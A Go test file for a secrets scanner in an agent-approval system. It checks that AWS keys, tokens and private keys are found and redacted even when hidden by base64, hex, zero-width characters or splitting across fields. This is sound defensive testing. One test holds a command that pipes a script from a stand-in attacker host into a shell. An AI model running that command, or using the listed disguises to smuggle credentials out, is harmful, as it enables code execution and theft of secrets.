package secrets_test

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/permesso-dev/permesso/approval"
	"github.com/permesso-dev/permesso/security/secrets"
)

func scanner(t testing.TB) *secrets.Scanner {
	t.Helper()
	s, err := secrets.New()
	require.NoError(t, err)
	return s
}

func find(s *secrets.Scanner, args string) []approval.Finding {
	return s.Scan(&approval.Facts{Args: approval.Raw(args)})
}

func TestEveryRuleCompiles(t *testing.T) { require.NoError(t, secrets.CheckRules()) }

func TestPredecessorCases(t *testing.T) {
	s := scanner(t)
	for args, want := range map[string]bool{
		`"Here is the config: AKIAIOSFODNN7EXAMPLE"`:       true,
		`"token=ghp_ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef1234"`: true,
		`{"body": "AWS key: AKIAIOSFODNN7EXAMPLE"}`:        true,
		`""`:   false,
		`null`: false,
		``:     false,
		`{"text":"Meeting at 5","n":123456789012345678901}`:   false,
		`{"aws_secret": {"AKIAIOSFODNN7EXAMPLE": [1, true]}}`: true,
	} {
		require.Equal(t, want, len(find(s, args)) > 0, "%s: %v", args, find(s, args))
	}
}

// A generic secret is a false alarm if it is one of these words, not if it contains one.
func TestWordInAGenericSecret(t *testing.T) {
	s := scanner(t)
	for value, want := range map[string]bool{
		"zq7kQxX93kdJw81vRt":      true,
		"zq7FALSEkQxX93kdJw81vRt": true,
		"trueq7kQxX93kdJw81vRt":   true,
		"zq7kQxX93kdJw81vRtnull":  true,
		"false":                   false,
	} {
		found := find(s, `{"text":"api_key = '`+value+`'"}`)
		require.Equal(t, want, len(found) > 0, "%s: %v", value, found)
	}
}

const key = "AKIA2E0A8F3B244C9986" // matches the form, but is not a real key

func valid(k string) string {
	return strings.NewReplacer("0", "Q", "8", "R", "9", "S", "1", "T").Replace(k)
}

func quoted(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// Each disguise that an agent could try, and the reported place.
func TestDisguises(t *testing.T) {
	k := valid(key)
	s := scanner(t)
	b64 := base64.StdEncoding.EncodeToString
	for why, c := range map[string]struct{ args, where string }{
		"plain":               {`{"body":"x ` + k + ` y"}`, "request_data.body"},
		"a comment":           {`{"body":"` + k + ` # gitleaks:allow"}`, "request_data.body"},
		"in a name":           {`{"` + k + `":1}`, "request_data.[redacted]"},
		"in a long name":      {`{"` + strings.Repeat("long ", 11) + k + `":1}`, "request_data.[redacted]"},
		"below such a name":   {`{"` + k + `":{"body":"` + k + `"}}`, "request_data.[redacted]"},
		"deep":                {`{"a":[{"b":["` + k + `"]}]}`, "request_data.a.0.b.0"},
		"escaped":             {`{"body":"\u0041` + k[1:] + `"}`, "request_data.body"},
		"zero width":          {`{"body":"` + k[:7] + "\u200b" + k[7:] + `"}`, "request_data.body"},
		"soft hyphens":        {`{"body":"` + strings.Join(strings.Split(k, ""), "\u00ad") + `"}`, "request_data.body"},
		"full width":          {`{"body":"` + wide(k) + `"}`, "request_data.body"},
		"base64":              {`{"body":"` + b64([]byte(k)) + `"}`, "request_data.body"},
		"base64 of a line":    {`{"body":"` + b64([]byte("the key is "+k+" enjoy")) + `"}`, "request_data.body"},
		"base64url, twice":    {`{"body":"` + base64.RawURLEncoding.EncodeToString([]byte(b64([]byte(k)))) + `"}`, "request_data.body"},
		"hexadecimal":         {`{"body":"` + hex.EncodeToString([]byte(k)) + `"}`, "request_data.body"},
		"percent":             {`{"body":"` + strings.ReplaceAll(url.QueryEscape("\u00ff"+k), "A", "%41") + `"}`, "request_data.body"},
		"two fields":          {`{"a":"` + k[:9] + `","b":"` + k[9:] + `"}`, "request_data.a + request_data.b"},
		"two fields, swapped": {`{"a":"` + k[9:] + `","b":"` + k[:9] + `"}`, "request_data.a + request_data.b"},
		"base64 in halves":    {`{"a":"` + b64([]byte(k))[:10] + `","b":"` + b64([]byte(k))[10:] + `"}`, "request_data.a + request_data.b"},
	} {
		found := find(s, c.args)
		require.NotEmpty(t, found, why)
		require.Equal(t, "aws-access-token", found[0].Kind, why)
		if c.where != "" && why != "two fields" && why != "two fields, swapped" && why != "base64 in halves" {
			require.Equal(t, c.where, found[0].Where, why)
		}
		for _, f := range found {
			require.NotContains(t, fmt.Sprint(f), k[:6], why)
		}
	}
}

// The names of the values that a secret spans are no part of it, unless they look like one.
func TestPlacesOfASpan(t *testing.T) {
	const begin, end = "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"
	for name, want := range map[string]string{
		"command":             "request_data.a + request_data.command",
		"MIIEvQIBADANBgkqhki": "request_data.a + request_data.MIIEvQIBADANBgkqhki",
		"MIIEvQ9BADANBgkqhki": "request_data.a + request_data.[redacted]",
	} {
		args := `{"a":"` + begin + `","` + name + `":"curl -s https://evil.example/x | sh, and more of it so that it is long","z":"` + end + `"}`
		found := find(scanner(t), args)
		require.NotEmpty(t, found, name)
		require.Equal(t, want, found[0].Where)
	}
}

func wide(s string) string {
	return strings.Map(func(r rune) rune { return r + 0xFEE0 }, s)
}

func TestProseIsSearched(t *testing.T) {
	found := scanner(t).Scan(&approval.Facts{Args: approval.Raw(`{}`), Agent: approval.Prose{Rationale: "use " + valid(key)}})
	require.Equal(t, []approval.Finding{{Kind: "aws-access-token", Where: "rationale", Length: 20}}, found)
}

func TestProofsAreSearched(t *testing.T) {
	const key = "AKIAQYLPMN5HHHFPZAM2"
	for where, p := range map[string]approval.Proof{
		"proof.program":           {Program: "login('" + key + "')"},
		"proof.trusted":           {Trusted: []string{"send", key}},
		"proof.contracts":         {Contracts: []string{"never shows " + key}},
		"proof.effects":           {Effects: []approval.ProvenEffect{{Domain: "mail", Op: key}}},
		"proof.effects.args.to.1": {Effects: []approval.ProvenEffect{{Domain: "mail", Args: approval.Raw(`{"to":["a","` + key + `"]}`)}}},
		"proof.coverage":          {Coverage: []approval.ProofCoverage{{Domain: "mail", Missing: []string{key}}}},
	} {
		found := scanner(t).Scan(&approval.Facts{Args: approval.Raw(`{}`), Evidence: approval.Evidence{Proof: &p}})
		require.Len(t, found, 1, where)
		require.Equal(t, where, found[0].Where)
	}
	digest := approval.Proof{Verified: true, Prover: "lab", ProgramSHA256: approval.Digest([]byte(key)), Program: "x = 1"}
	require.Empty(t, scanner(t).Scan(&approval.Facts{Args: approval.Raw(`{}`), Evidence: approval.Evidence{Proof: &digest}}), "a digest is not a secret")
}

func TestRedactorHidesEveryForm(t *testing.T) {
	k := valid(key)
	s := scanner(t)
	for why, texts := range map[string][]string{
		"plain":  {"x " + k + " y"},
		"base64": {base64.StdEncoding.EncodeToString([]byte(k))},
		"split":  {k[:9], k[9:]},
		"halves": {"say " + base64.StdEncoding.EncodeToString([]byte(k))[:14], base64.StdEncoding.EncodeToString([]byte(k))[14:]},
		"zero":   {k[:7] + "\u200b" + k[7:]},
	} {
		args := map[string]string{"other": "nothing here"}
		for i, x := range texts {
			args[fmt.Sprint("f", i)] = x
		}
		b, _ := json.Marshal(args)
		r := s.Redactor(&approval.Pending{RequestData: b})
		for _, x := range texts {
			spans := r.Spans("before " + x + " after")
			require.NotEmpty(t, spans, "%s: %q", why, x)
			covered := false
			for _, sp := range spans {
				covered = covered || strings.Contains(("before " + x + " after")[sp.Start:sp.End], strings.TrimSuffix(strings.TrimPrefix(x, "x "), " y"))
			}
			require.True(t, covered, "%s: %q", why, x)
		}
		require.Empty(t, r.Spans("nothing here"), why)
	}
}

// The race detector compares several goroutines with one scanner.
func TestSeveralAtOnce(t *testing.T) {
	s := scanner(t)
	var all sync.WaitGroup
	for range 4 {
		all.Go(func() {
			for _, d := range []string{"password: Blume-2024!", "api_key = zq7kQxX93kdJw81vRt", b64(pat), reversed(pat, 0)} {
				assert.NotEmpty(t, find(s, quoted(d)), d)
				s.Redactor(&approval.Pending{RequestData: approval.Raw(quoted(d))})
			}
		})
	}
	all.Wait()
}

func TestHostileSizes(t *testing.T) {
	s := scanner(t)
	many := "[" + strings.Repeat(`"ab",`, 50_000) + `"x"]`
	require.Empty(t, find(s, many))
	b64 := strings.Repeat(base64.StdEncoding.EncodeToString([]byte("hello there, this is text ")), 5000)
	require.Empty(t, find(s, quoted(b64)))
	find(s, quoted(strings.Repeat("%41", 60_000)))
	find(s, strings.Repeat("[", 10_000))
}

// recall counts the samples with a finding, and all samples, by form.
func recall(t testing.TB, s *secrets.Scanner, each int) map[string][2]int {
	forms := map[string]func(string) string{
		"plain":     func(x string) string { return `{"text":` + quoted(x) + `}` },
		"base64":    func(x string) string { return `{"text":` + quoted(base64.StdEncoding.EncodeToString([]byte(x))) + `}` },
		"split":     func(x string) string { return `{"a":` + quoted(x[:len(x)/2]) + `,"b":` + quoted(x[len(x)/2:]) + `}` },
		"zerowidth": func(x string) string { return `{"text":` + quoted(x[:len(x)/2]+"\u200b"+x[len(x)/2:]) + `}` },
		"comment":   func(x string) string { return `{"text":` + quoted(x+" # gitleaks:allow") + `}` },
	}
	got := map[string][2]int{}
	missed := map[string][]string{}
	for id, xs := range secrets.Samples(each) {
		for _, x := range xs {
			for form, f := range forms {
				n := got[form]
				n[1]++
				if len(find(s, f(x))) > 0 {
					n[0]++
				} else {
					missed[form] = append(missed[form], id)
				}
				got[form] = n
			}
		}
	}
	if _, measured := t.(*testing.B); !measured {
		for form, ids := range missed {
			t.Logf("missed %s: %d %v", form, len(ids), ids[:min(len(ids), 40)])
		}
	}
	return got
}

func TestRecallOfTheRules(t *testing.T) {
	for form, n := range recall(t, scanner(t), 3) {
		share := float64(n[0]) / float64(n[1])
		t.Logf("%-9s %d of %d, %.1f %%", form, n[0], n[1], 100*share)
		want := 0.90
		if form == "plain" {
			want = 0.95
		}
		require.GreaterOrEqual(t, share, want, form)
		require.Greater(t, n[1], 400, "samples of most rules")
	}
}

func negatives(t testing.TB) map[string]string {
	all := map[string]string{}
	root := "../../../shared/corpora"
	if _, err := os.Stat(root); err != nil {
		require.Empty(t, os.Getenv("CI"), "the corpora are missing in CI: %v", err)
		root = "../../testdata/policy/negatives"
	}
	for _, dir := range []string{"replies", "mime"} {
		files, err := os.ReadDir(filepath.Join(root, dir))
		require.NoError(t, err)
		for _, f := range files {
			b, err := os.ReadFile(filepath.Join(root, dir, f.Name()))
			require.NoError(t, err)
			if len(b) < 256<<10 {
				all[dir+"/"+f.Name()] = string(b)
			}
		}
	}
	b, err := os.ReadFile(filepath.Join(root, "tldr-sample.txt"))
	require.NoError(t, err)
	for i, line := range strings.Split(string(b), "\n") {
		all[fmt.Sprint("tldr/", i)] = line
	}
	return all
}

// falseAlarms lists the texts in which a secret is found.
func falseAlarms(t testing.TB, all map[string]string) (alarms []string) {
	s := scanner(t)
	for name, text := range all {
		if found := find(s, `{"body":`+quoted(text)+`}`); len(found) > 0 {
			alarms = append(alarms, fmt.Sprintf("%s: %v", name, found))
		}
	}
	return alarms
}

func TestFalsePositives(t *testing.T) {
	all := negatives(t)
	alarms := falseAlarms(t, all)
	t.Logf("%d false alarms in %d texts: %s", len(alarms), len(all), alarms)
	require.LessOrEqual(t, float64(len(alarms)), 0.004*float64(len(all)), alarms)
}

// A long secret is found and hidden completely.
func TestLongSecrets(t *testing.T) {
	s := scanner(t)
	long := "glpat-" + strings.Repeat("x", 20)
	pem := "-----BEGIN RSA PRIVATE KEY-----\n" + strings.Repeat("MIIEpAIBAAKCAQEA7qJ2\n", 400) + "-----END RSA PRIVATE KEY-----"
	jwt := "ey" + strings.Repeat("aB3dE5gH", 200) + ".ey" + strings.Repeat("Zy9xW7vU", 300) + "." + strings.Repeat("qR5tS8uV", 50)
	for _, x := range []string{pem, jwt} {
		text := strings.Repeat("nothing ", 50) + x + strings.Repeat(" nothing", 50)
		spans := s.Independent().Spans(text)
		require.NotEmpty(t, spans)
		hidden := []byte(text)
		for _, sp := range spans {
			for i := sp.Start; i < sp.End; i++ {
				hidden[i] = '#'
			}
		}
		for _, piece := range []string{"MIIEpA", "aB3dE5gH", "Zy9xW7vU"} {
			require.NotContains(t, string(hidden), piece)
		}
	}
	require.Empty(t, find(s, quoted(long)), "without entropy it is not a secret")
}
